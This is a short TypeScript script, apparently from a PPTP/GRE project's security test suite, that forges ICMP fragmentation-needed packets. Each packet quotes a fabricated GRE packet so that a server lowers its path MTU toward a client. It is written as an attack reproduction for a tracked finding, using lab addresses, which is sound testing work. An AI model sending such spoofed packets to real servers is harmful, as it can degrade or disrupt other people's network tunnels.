/**
 * Attack script (issue 12, finding 9): a forged ICMP fragmentation-needed
 * from the attacker's own address to the server, claiming that the server's
 * GRE toward the client hit a link of MTU `mtu`. The quoted packet is a
 * full-size GRE packet server → client with DF, as a router would quote it.
 * Prints `SENT n`.
 */
import { icmpFragNeeded } from '../../../../src/wire/ip.js';
import { encodeGre } from '../../../../src/pptp/gre.js';
import { parseIpv4 } from '../../../../src/config/ipv4.js';
import { ipv4Packet, sendRawIpv4 } from '../raw-ipv4.js';

const [server = '10.201.0.1', client = '10.201.0.2', from = '10.201.0.3', mtuArg = '112', countArg = '3'] = process.argv.slice(2);
const gre = encodeGre({ callId: 0x4242, seq: 1000, payload: new Uint8Array(8) });
const quoted = ipv4Packet(server, client, 47, gre, { dontFragment: true, totalLength: 1500 });
const icmp = icmpFragNeeded(quoted, Number(mtuArg), parseIpv4(from)!);
if (!icmp) throw new Error('no ICMP built');
let sent = 0;
for (let i = 0; i < Number(countArg); i++) sent += sendRawIpv4(icmp, server);
console.log(`SENT ${sent}`);
